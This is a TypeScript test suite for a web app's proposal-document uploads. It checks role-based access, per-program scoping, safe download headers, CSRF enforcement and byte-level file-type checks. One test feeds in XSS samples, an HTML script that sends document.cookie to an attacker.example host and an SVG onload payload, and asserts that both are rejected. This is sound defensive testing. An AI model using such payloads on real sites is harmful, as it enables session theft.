// Issue 17: a pilot's full proposal carries its budget and figures as uploaded documents, stored in our database
// and served from our own origin. Only the people who prepare or decide it may download them; a document is
// reachable only under its own program; what is served never runs in our pages (always a download, never
// sniffed, sandboxed); and a file that is not a PDF, DOCX or ODT by its bytes is never stored, whatever its name.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { BrowserSession } from '../support/browser-session.ts';
import { aLearner, anInstitution, aProgram, aStaffMember, type Person } from '../support/builders.ts';
import { aPdf } from '../support/full-proposals.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { testBackend } from '../support/test-database.ts';
import { multipartFile } from '../support/uploads.ts';

describe(`full-proposal documents reach only their readers, on ${testBackend}`, () => {
  let app: TestApp;
  let lead: Person;
  let leadBrowser: BrowserSession;
  let programId: string;
  let otherProgramId: string;
  let documentId: string;

  const upload = async (
    browser: BrowserSession,
    id: string,
    filename: string,
    content: Buffer,
    csrf = true,
  ) => {
    const { payload, contentType } = multipartFile('document', filename, 'application/pdf', content);
    const cookie = [...browser.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const query = csrf ? `?_csrf=${encodeURIComponent(await browser.csrfToken())}` : '';
    return app.http.inject({
      method: 'POST',
      url: `/programs/${id}/full-proposal/documents${query}`,
      payload,
      headers: { 'content-type': contentType, cookie },
    });
  };
  const storedCount = async (id: string) =>
    (
      await app.database.db
        .selectFrom('full_proposal_documents')
        .select('id')
        .where('program_id', '=', id)
        .execute()
    ).length;

  before(async () => {
    app = await startTestApp({ runJobs: false });
    await anInstitution(app);
    lead = await aStaffMember(app, 'program_lead');
    leadBrowser = await lead.signIn();
    programId = (await aProgram(app, { status: 'pilot', pilotStartedOn: '2024-09-01', lead })).id;
    otherProgramId = (await aProgram(app, { status: 'pilot', pilotStartedOn: '2024-09-01', lead })).id;
    assert.equal((await upload(leadBrowser, programId, 'budget.pdf', await aPdf('Budget'))).statusCode, 303);
    const row = await app.database.db
      .selectFrom('full_proposal_documents')
      .select('id')
      .where('program_id', '=', programId)
      .executeTakeFirstOrThrow();
    documentId = row.id;
  });
  after(() => app.close());

  const address = (program = programId) => `/programs/${program}/full-proposal/documents/${documentId}`;

  test('anonymous visitors, learners, other leads and the registrar get no document', async () => {
    const anonymous = await app.http.inject({ url: address() });
    assert.notEqual(anonymous.statusCode, 200);
    assert.doesNotMatch(anonymous.body, /%PDF-/);
    const learner = await (await aLearner(app)).account!.signIn();
    const otherLead = await (await aStaffMember(app, 'program_lead')).signIn();
    const registrar = await (await aStaffMember(app, 'registrar')).signIn();
    for (const [who, browser] of [
      ['a learner', learner],
      ['another program’s lead', otherLead],
      ['the registrar', registrar],
    ] as const) {
      const response = await browser.get(address());
      assert.equal(response.statusCode, 403, who);
      assert.doesNotMatch(response.body, /%PDF-/, who);
    }
  });

  test('a document is not reachable under another program’s address, even by the lead of both', async () => {
    const response = await leadBrowser.get(address(otherProgramId));
    assert.equal(response.statusCode, 404);
  });

  test('a document is served as a sandboxed download that browsers do not sniff', async () => {
    const response = await leadBrowser.get(address());
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-type'], 'application/pdf');
    assert.match(String(response.headers['content-disposition']), /^attachment; filename="budget\.pdf"/);
    assert.equal(response.headers['x-content-type-options'], 'nosniff');
    assert.match(String(response.headers['content-security-policy']), /default-src 'none'; sandbox/);
    assert.match(String(response.headers['cache-control']), /no-store/);
    assert.ok(response.rawPayload.subarray(0, 5).equals(Buffer.from('%PDF-')));
  });

  test('an HTML or SVG page named .pdf is refused and never stored', async () => {
    const before = await storedCount(programId);
    for (const content of [
      '<html><script>document.location="https://attacker.example/?"+document.cookie</script></html>',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      ' %PDF-1.7 but not at the start',
    ]) {
      const refused = await upload(leadBrowser, programId, 'report.pdf', Buffer.from(content));
      assert.equal(refused.statusCode, 400);
    }
    assert.equal(await storedCount(programId), before);
  });

  test('an upload or removal without the CSRF token is refused', async () => {
    const before = await storedCount(programId);
    const forged = await upload(leadBrowser, programId, 'forged.pdf', await aPdf('Forged'), false);
    assert.equal(forged.statusCode, 403);
    const removal = await leadBrowser.postForm(`${address()}/remove`, {}, { csrf: false });
    assert.equal(removal.statusCode, 403);
    assert.equal(await storedCount(programId), before);
  });
});
